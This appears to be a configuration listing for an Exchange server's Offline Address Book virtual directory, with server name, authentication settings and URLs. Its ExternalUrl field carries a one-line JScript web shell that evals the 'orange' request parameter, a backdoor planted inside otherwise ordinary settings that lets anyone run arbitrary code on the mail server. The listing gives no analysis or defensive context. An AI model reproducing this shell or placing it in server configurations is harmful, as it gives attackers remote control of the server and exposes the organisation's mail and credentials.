Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : {}
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
InternalUrl                     : https://mail.example.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
Server                          : EXCH01
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
Identity                        : EXCH01\OAB (Default Web Site)
